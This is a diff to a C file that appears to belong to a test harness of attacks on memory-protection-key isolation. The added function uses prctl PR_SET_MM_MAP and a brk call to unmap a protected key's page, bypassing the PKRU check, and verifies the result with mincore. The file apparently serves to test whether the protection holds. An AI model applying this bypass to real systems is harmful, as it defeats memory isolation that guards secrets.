@@ -4,11 +4,14 @@
 // and /proc/self/cmdline then reads it without looking at PKRU.
 #include "evil.h"
 
+#include <errno.h>
 #include <fcntl.h>
 #include <linux/prctl.h>
 #include <stdio.h>
 #include <string.h>
+#include <sys/mman.h>
 #include <sys/prctl.h>
+#include <sys/syscall.h>
 #include <unistd.h>
 
 // The present layout, as the kernel asks for a complete one.
@@ -75,4 +78,22 @@ int evil_prctl_mm_map(const struct evil_target *target) {
     if (size < (ssize_t)target->key_size)
         return evil_failed_because("/proc/self/cmdline gave %zd bytes", size);
     return evil_got(target, copy, "/proc/self/cmdline");
+}
+
+// The heap's end moved to the key: brk then unmaps it, and has no address to be checked.
+int evil_prctl_mm_brk(const struct evil_target *target) {
+    uintptr_t page = (uintptr_t)target->key & ~UINT64_C(4095);
+    struct prctl_mm_map map;
+    unsigned char present;
+
+    memset(&map, 0, sizeof map);
+    present_map(&map);
+    map.start_brk = page;
+    map.brk = page + 4096;
+    if (prctl(PR_SET_MM, PR_SET_MM_MAP, &map, sizeof map, 0) != 0)
+        return evil_failed("prctl PR_SET_MM_MAP");
+    syscall(SYS_brk, page);
+    if (mincore((void *)page, 4096, &present) == 0 || errno != ENOMEM)
+        return evil_failed_because("the key's page is still there");
+    return evil_succeeded("unmapped the key's page by brk");
 }
